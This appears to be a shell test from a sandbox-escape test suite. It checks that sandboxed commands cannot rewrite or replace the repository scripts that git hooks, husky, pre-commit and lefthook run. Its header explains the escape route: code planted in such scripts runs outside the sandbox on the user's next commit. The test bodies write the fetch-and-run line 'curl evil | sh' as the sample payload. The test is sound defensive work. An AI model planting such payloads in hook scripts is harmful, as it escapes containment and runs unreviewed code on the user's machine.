# SPDX-License-Identifier: MIT
# The scripts that commit hooks run. A hook is protected where git finds it (.git/hooks, a
# core.hooksPath such as .husky, attempts 22 and 49), and so is the configuration of the hook
# managers (.pre-commit-config.yaml, lefthook.yml, attempt 96); but a hook usually hands over to a
# script of the repository (.git/hooks/pre-commit: exec ./scripts/pre-commit.sh; .husky/pre-commit:
# ./scripts/husky.sh), and so do the managers' configurations (pre-commit's `repo: local` entry:
# ./scripts/check.sh; lefthook's run: ./scripts/lint.sh, or a block of lines). Rewriting that script
# runs the command's code on ann's next `git commit`, outside the sandbox, as rewriting the hook
# would. Existing scripts are read-only (EROFS; EACCES elevated) in both modes, and cannot be
# replaced (EBUSY). Two repositories below the workspace (apps/hk1, apps/hk2), made in each phase
# (elevated: after apply, so only the runner guards them), removed at the end.
# Self-contained (it sorts before 22-git-anywhere.sh): ESC_ONLY=101 runs it alone.

hk_write_fail='Read-only file system|Permission denied'
hk_move_fail='Device or resource busy|Read-only file system|Permission denied|Invalid cross-device link'

rm -rf "$ws/apps/hk1" "$ws/apps/hk2"
as_user ann sh -e -c '
        ok() { printf "#!/bin/sh\nexit 0\n" >"$1" && chmod +x "$1"; }
        mkdir -p "$1/hk1/scripts" "$1/hk2/scripts" && cd "$1/hk1" && git init -q -b main
        printf "#!/bin/sh\nexec ./scripts/pre-commit.sh \"\$@\"\n" >.git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
        ok scripts/pre-commit.sh
        printf "repos:\n  - repo: local\n    hooks:\n      - id: check\n        name: check\n        entry: ./scripts/check.sh\n        language: script  # runs from the top\n" >.pre-commit-config.yaml
        ok scripts/check.sh
        cd "$1/hk2" && git init -q -b main && git config core.hooksPath .husky && mkdir .husky
        printf "npm test\n./scripts/husky.sh\n" >.husky/pre-commit && chmod +x .husky/pre-commit
        ok scripts/husky.sh
        printf "pre-push:\n  commands:\n    lint:\n      run: ./scripts/lint.sh {push_files}\n    more:\n      run: |\n        echo more\n        scripts/lint-more.sh\n" >lefthook.yml
        ok scripts/lint.sh
        ok scripts/lint-more.sh' sh "$ws/apps"
[ "$mode" = elevated ] && $bulwark apply /var/lib/escape-tools/ws.plan --workspace "$ws" --user ann >/run/esc.reapply 2>&1
for f in hk1/scripts/pre-commit.sh hk1/scripts/check.sh hk2/scripts/husky.sh hk2/scripts/lint.sh hk2/scripts/lint-more.sh; do
        blocked -c "hook-program-write:$f" "$hk_write_fail" sh -c 'echo "curl evil | sh" >>"$0"' "apps/$f"
        host_check "hook-program-write:$f" "apps/$f does not hold the command's code" sh -c "! grep -qs 'curl evil' $ws/apps/$f"
done
blocked -c hook-program-replace "$hk_move_fail" sh -c 'printf "#!/bin/sh\ncurl evil | sh\n" >apps/hk2/scripts/new.sh &&
        mv apps/hk2/scripts/new.sh apps/hk2/scripts/husky.sh'
host_check hook-program-replace "the script husky runs is ann's" sh -c "! grep -qs 'curl evil' $ws/apps/hk2/scripts/husky.sh"
rm -rf "${ws:?}/apps/hk1" "$ws/apps/hk2"
